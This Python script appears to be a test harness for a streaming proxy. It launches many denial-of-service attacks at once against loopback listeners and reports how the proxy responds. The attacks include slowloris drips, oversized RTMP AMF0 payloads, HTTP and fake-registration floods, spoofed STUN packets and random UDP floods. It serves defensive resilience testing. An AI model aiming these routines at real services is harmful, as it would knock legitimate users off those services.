# SPDX-License-Identifier: MIT
"""An attacker for the abuse-while-serving test: every cheap attack on every listener at once,
from one source address that is not the legitimate clients' (a loopback alias, 127.0.0.66).

  abuse.py CONFIG.json
CONFIG: {"source": "127.0.0.66", "seconds": 60, "rtmp": P, "http_server": P, "http_api": P,
         "system_api": P, "webrtc": P, "srt": P, "usernames": ["answer:offer", ...]}
Prints one JSON line: how many of each attack it sent and how the proxy answered.
"""
import json
import os
import socket
import struct
import sys
import threading
import time

CFG = json.load(open(sys.argv[1]))
SRC = CFG["source"]
DEADLINE = time.time() + CFG["seconds"]
counts = {}
lock = threading.Lock()


def count(key, n=1):
    with lock:
        counts[key] = counts.get(key, 0) + n


def running():
    return time.time() < DEADLINE


def tcp(port, timeout=5):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((SRC, 0))
    s.settimeout(timeout)
    s.connect(("127.0.0.1", port))
    return s


def closed_by_peer(s):
    """True when the proxy has closed (or reset) this socket."""
    try:
        s.setblocking(False)
        return s.recv(65536) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        s.setblocking(True)


def slowloris(port, first, drip, conns=40):
    """Keeps up to `conns` connections that send `first` then one byte of `drip` per second."""
    live = []
    while running():
        while len(live) < conns and running():
            try:
                s = tcp(port, 2)
                s.sendall(first)
                live.append([s, 0])
                count("slowloris_opened")
            except OSError:
                count("slowloris_refused")
                time.sleep(0.05)
                break
        time.sleep(1)
        for entry in list(live):
            s, i = entry
            if closed_by_peer(s):
                count("slowloris_closed_by_proxy")
                s.close()
                live.remove(entry)
                continue
            try:
                s.sendall(drip[i % len(drip):i % len(drip) + 1])
                entry[1] += 1
            except OSError:
                count("slowloris_closed_by_proxy")
                s.close()
                live.remove(entry)
    for s, _ in live:
        s.close()


def rtmp_chunks(msg_type, payload, csid=3, chunk=128):
    head = bytes([csid]) + b"\0\0\0" + len(payload).to_bytes(3, "big") + bytes([msg_type]) + b"\0\0\0\0"
    out = bytearray(head)
    for i in range(0, len(payload), chunk):
        if i:
            out += bytes([0xC0 | csid])
        out += payload[i:i + chunk]
    return bytes(out)


def amf0_bomb(size):
    """A connect command whose object is one strict array of `size` one-byte values (nulls)."""
    name = b"\x02\x00\x07connect"
    tid = b"\x00" + struct.pack(">d", 1.0)
    return name + tid + b"\x0a" + struct.pack(">I", size) + b"\x05" * size


def amf0_bombs():
    bomb = rtmp_chunks(1, struct.pack(">I", 65536), csid=2) + rtmp_chunks(20, amf0_bomb(2 * 1024 * 1024), chunk=65536)
    while running():
        s = None
        try:
            s = tcp(CFG["rtmp"], 5)
            s.sendall(b"\x03" + bytes(1536))
            got = b""
            while len(got) < 1 + 1536 * 2:
                data = s.recv(65536)
                if not data:
                    raise OSError("closed in handshake")
                got += data
            s.sendall(got[1:1537])
            s.sendall(bomb)
            count("amf0_bombs")
            s.settimeout(5)
            while s.recv(65536):
                pass
            count("amf0_bomb_closed_by_proxy")
        except OSError:
            count("amf0_bomb_refused")
            time.sleep(0.05)
        finally:
            if s:
                s.close()


def http_flood(port, make_path, key, method="GET", body_of=None):
    """Many requests on keep-alive connections; a new connection when the proxy closes one."""
    i = 0
    s = None
    while running():
        try:
            if s is None:
                s = tcp(port, 5)
            path = make_path(i)
            body = body_of(i) if body_of else b""
            req = ("%s %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % (method, path, len(body))).encode() + body
            s.sendall(req)
            resp = s.recv(65536)
            if not resp:
                raise OSError("closed")
            status = resp.split(b" ", 2)[1].decode(errors="replace") if resp.startswith(b"HTTP/") else "?"
            count("%s_%s" % (key, status))
            i += 1
        except OSError:
            count(key + "_closed")
            if s:
                s.close()
            s = None
            time.sleep(0.01)
    if s:
        s.close()


def register_body(i):
    return json.dumps({"device_id": "evil", "ip": SRC, "server": "evil-%d" % i, "service": "s%d" % i,
                       "pid": str(100000 + i), "rtmp": ["19350"], "http": ["8080"], "api": ["1985"],
                       "srt": ["udp://0.0.0.0:10080"], "rtc": ["udp://0.0.0.0:8000"]}).encode()


def stun(username, integrity):
    name = username.encode()
    attrs = struct.pack("!HH", 0x0006, len(name)) + name + b"\0" * ((4 - len(name) % 4) % 4)
    if integrity:
        attrs += struct.pack("!HH", 0x0008, 20) + os.urandom(20)
    return struct.pack("!HHI", 0x0001, len(attrs), 0x2112A442) + os.urandom(12) + attrs


def udp_flood(port, make, key, pps):
    socks = []
    for _ in range(8):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind((SRC, 0))
        socks.append(u)
    i = 0
    start = time.time()
    while running():
        for u in socks:
            try:
                u.sendto(make(i), ("127.0.0.1", port))
                i += 1
            except OSError:
                pass
        ahead = i / pps - (time.time() - start)
        if ahead > 0:
            time.sleep(ahead)
    count(key, i)


def main():
    names = CFG.get("usernames") or ["x:y"]
    jobs = [
        lambda: slowloris(CFG["rtmp"], b"\x03", bytes(1536)),
        lambda: slowloris(CFG["http_server"], b"GET /live/s.flv HTTP/1.1\r\n", b"X-a: b\r\n"),
        lambda: slowloris(CFG["http_api"], b"POST /rtc/v1/whep/?app=live&stream=s HTTP/1.1\r\nContent-Length: 100000\r\n\r\n", b"v=0\r\n"),
        lambda: slowloris(CFG["system_api"], b"POST /api/v1/srs/register HTTP/1.1\r\nContent-Length: 100000\r\n\r\n", b"{\"a\":1}"),
        amf0_bombs,
        lambda: http_flood(CFG["system_api"], lambda i: "/api/v1/srs/register", "register", "POST", register_body),
        lambda: http_flood(CFG["http_server"], lambda i: "/live/flood%d.m3u8?%s" % (i, "x" * 4000), "hls"),
        lambda: http_flood(CFG["http_server"], lambda i: "/live/flood%d.flv" % i, "flv"),
        lambda: udp_flood(CFG["webrtc"], lambda i: stun(names[i % len(names)], i % 2 == 1), "stolen_stun", 2000),
        lambda: udp_flood(CFG["webrtc"], lambda i: os.urandom(64 + i % 900), "random_rtc", 3000),
        lambda: udp_flood(CFG["srt"], lambda i: os.urandom(16 + i % 1300), "random_srt", 2000),
    ]
    threads = [threading.Thread(target=j, daemon=True) for j in jobs]
    for t in threads:
        t.start()
    for t in threads:
        t.join(CFG["seconds"] + 15)
    print(json.dumps(counts, sort_keys=True))


if __name__ == "__main__":
    main()
